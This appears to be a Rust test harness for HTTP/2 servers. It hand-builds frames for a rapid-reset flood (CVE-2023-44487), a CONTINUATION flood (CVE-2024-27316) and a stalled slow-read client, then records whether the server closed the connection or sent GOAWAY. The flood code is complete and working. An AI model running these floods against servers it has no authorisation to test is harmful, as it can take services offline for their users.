//! Hand-made HTTP/2 frames over TLS, for the floods a well-behaved client library will not
//! send: rapid resets (HEADERS then RST_STREAM, over and over) and endless CONTINUATION.

use std::time::{Duration, Instant};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};
use tokio_rustls::client::TlsStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// `GET https://{host}{path}` as an HPACK block: static-table method and scheme, literal
/// path and authority, nothing added to the dynamic table.
pub fn request_block(host: &str, path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x87];
    for (index, value) in [(0x04u8, path), (0x01, host)] {
        assert!(value.len() < 127);
        b.push(index);
        b.push(value.len() as u8);
        b.extend_from_slice(value.as_bytes());
    }
    b
}

/// A client that asks for `path` with a flow-control window of 0, so the response can never
/// be sent, and pings every 200 ms to look alive. Returns how long the server kept the
/// connection open, or `None` if it still was after `limit`.
pub async fn stalled_reader(
    mut tls: TlsStream<TcpStream>,
    host: &str,
    path: &str,
    limit: Duration,
) -> Option<Duration> {
    let started = Instant::now();
    let initial_window_0 = [0x00, 0x04, 0, 0, 0, 0];
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &initial_window_0));
    hello.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &request_block(host, path)));
    tls.write_all(&hello).await.ok()?;
    let mut buf = [0u8; 16384];
    while started.elapsed() < limit {
        match tokio::time::timeout(Duration::from_millis(200), tls.read(&mut buf)).await {
            Ok(Ok(0) | Err(_)) => return Some(started.elapsed()),
            Ok(Ok(_)) => continue,
            Err(_) => {
                if tls.write_all(&frame(PING, 0, 0, &[0; 8])).await.is_err() {
                    return Some(started.elapsed());
                }
            }
        }
    }
    None
}

/// What the server did with a flood.
#[derive(Debug)]
pub struct Outcome {
    /// Frames of the flood written before the connection failed (or all of them).
    pub written: usize,
    /// Whether the server closed the connection (or sent GOAWAY) within the wait.
    pub closed: bool,
    pub goaway: bool,
}

/// Writes the preface, then `frames` in batches while reading whatever the server sends;
/// waits up to 5 s after the last write for the server to close.
pub async fn flood(tls: TlsStream<TcpStream>, frames: impl Iterator<Item = Vec<u8>>) -> Outcome {
    let (mut rd, mut wr) = tokio::io::split(tls);
    let reader = tokio::spawn(async move {
        let mut seen = Vec::new();
        let mut buf = [0u8; 16384];
        loop {
            match rd.read(&mut buf).await {
                Ok(0) | Err(_) => return (true, seen),
                Ok(n) => seen.extend_from_slice(&buf[..n]),
            }
        }
    });
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    let mut written = 0;
    let mut ok = wr.write_all(&start).await.is_ok();
    let mut batch = Vec::new();
    let mut in_batch = 0;
    for f in frames {
        if !ok {
            break;
        }
        batch.extend(f);
        in_batch += 1;
        if in_batch == 64 {
            ok = wr.write_all(&batch).await.is_ok() && wr.flush().await.is_ok();
            if ok {
                written += in_batch;
            }
            batch.clear();
            in_batch = 0;
        }
    }
    if ok && !batch.is_empty() && wr.write_all(&batch).await.is_ok() && wr.flush().await.is_ok() {
        written += in_batch;
    }
    let deadline = Instant::now() + Duration::from_secs(5);
    let (closed, seen) = match tokio::time::timeout_at(deadline.into(), reader).await {
        Ok(Ok(r)) => r,
        _ => (false, Vec::new()),
    };
    Outcome { written, closed, goaway: has_goaway(&seen) }
}

/// Whether the server's bytes (after its preface-free start) hold a GOAWAY frame.
fn has_goaway(mut bytes: &[u8]) -> bool {
    while bytes.len() >= 9 {
        let len = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
        if bytes[3] == GOAWAY {
            return true;
        }
        bytes = &bytes[(9 + len).min(bytes.len())..];
    }
    false
}

/// `n` requests for `path`, each reset at once (CVE-2023-44487).
pub fn rapid_reset(host: &str, path: &str, n: u32) -> impl Iterator<Item = Vec<u8>> {
    let block = request_block(host, path);
    (0..n).map(move |i| {
        let id = 2 * i + 1;
        let mut f = frame(HEADERS, END_STREAM | END_HEADERS, id, &block);
        f.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
        f
    })
}

/// One request's headers that never end: `n` CONTINUATION frames after a HEADERS frame
/// without END_HEADERS (CVE-2024-27316 and kin).
pub fn continuation_flood(host: &str, path: &str, n: u32) -> impl Iterator<Item = Vec<u8>> {
    let first = frame(HEADERS, END_STREAM, 1, &request_block(host, path));
    std::iter::once(first)
        .chain((0..n).map(|_| frame(CONTINUATION, 0, 1, &[0x00, 0x01, b'x', 0x01, b'y'])))
}
